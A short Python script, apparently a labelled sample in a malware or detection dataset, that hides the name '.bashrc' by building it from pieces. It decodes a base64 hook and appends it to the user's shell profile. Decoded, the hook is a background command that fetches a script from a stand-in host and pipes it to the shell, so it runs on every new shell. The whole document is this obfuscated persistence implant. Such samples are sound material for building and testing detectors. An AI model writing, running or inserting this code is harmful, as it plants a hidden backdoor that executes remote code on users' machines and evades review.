# family: persistence
# evasive: the profile's name assembled from parts; the hook is base64 so no URL is visible
import base64
import os

name = "." + "bash" + "rc"
hook = base64.b64decode(b"Y3VybCAtcyBodHRwOi8vaC5leGFtcGxlLmludmFsaWQvcyB8IHNoICY=").decode()
with open(os.path.join(os.environ["HOME"], name), "a") as f:
    f.write("\n" + hook + "\n")
